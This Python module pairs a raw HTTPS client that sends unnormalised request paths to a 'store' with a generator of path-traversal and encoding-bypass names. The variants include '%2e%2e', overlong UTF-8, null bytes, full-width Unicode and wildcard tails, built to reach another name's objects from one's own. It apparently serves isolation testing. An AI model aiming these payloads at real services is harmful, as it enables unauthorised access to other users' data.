"""Requests as nobody's client would write them: paths go to the store as they are, neither normalised nor quoted."""

import http.client
import ssl
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit


@dataclass(frozen=True)
class Answer:
    """What a server said."""

    status: int
    body: bytes


class Raw:
    """A connection to a store."""

    def __init__(self, url: str, authority: Path, headers: dict[str, str], proxy: str | None = None) -> None:
        """
        :param url: The store's.
        :param authority: The CA of its certificate.
        :param headers: Sent with every request.
        :param proxy: The proxy that leads to it.
        """
        to, by = urlsplit(url), urlsplit(proxy or url)
        context = ssl.create_default_context(cafile=str(authority))
        self._connection = http.client.HTTPSConnection(by.hostname or "", by.port, timeout=15, context=context)
        if proxy:
            self._connection.set_tunnel(to.hostname or "", to.port or 443)
        self._headers = headers

    def get(self, path: str) -> Answer:
        """The answer to a GET of exactly `path`."""
        self._connection.putrequest("GET", path, skip_accept_encoding=True)
        for name, value in self._headers.items():
            self._connection.putheader(name, value)
        self._connection.endheaders()
        answer = self._connection.getresponse()
        return Answer(answer.status, answer.read())


def crafted(own: str, other: str) -> Iterator[str]:
    """Names that begin as `own`, and might end as `other`, to a server that resolves, decodes or folds them."""
    up = ("..", "%2e%2e", "%2E.", "%252e%252e", "..;", ".%00.", "%c0%ae%c0%ae")
    slashes = ("/", "%2f", "%2F", "%252f", "//", "/./", "%5c", "\\")
    for parent in up:
        for slash in slashes:
            yield f"{own}{slash}{parent}{slash}{other}"
            yield f"{own}/{parent}{slash}{other}"
            yield f"{parent}{slash}{other}"
    for slash in slashes:
        yield f"{slash}{other}"
        yield f"{other}{slash}"
        yield f"{own}{slash}{other}"
    for tail in (
        "%00",
        "%20",
        "%0a",
        ".",
        "*",
        "+",
        "?",
        "#",
        ";",
        "?version=1",
        "%3fversion=1",
        "?list=true",
        "?help=1",
    ):
        yield f"{other}{tail}"
        yield f"{own}{tail}/{other}"
    yield from ("+", "*", "%2b", "%2a", f"{own}*", f"{own[:1]}*", f"{other[:1]}*", "?list=true", "")
    yield from (
        other.upper(),
        other.title(),
        other.swapcase(),
        _wide(other),
        f"{other}%cc%81",
        other.replace("k", "%e2%84%aa"),
    )


def _wide(name: str) -> str:
    """`name` in full-width letters, which compatibility normalisation turns into `name`."""
    return "".join(
        "".join(f"%{byte:02x}" for byte in chr(ord(character) + 0xFEE0).encode()) if character.isalnum() else character
        for character in name
    )
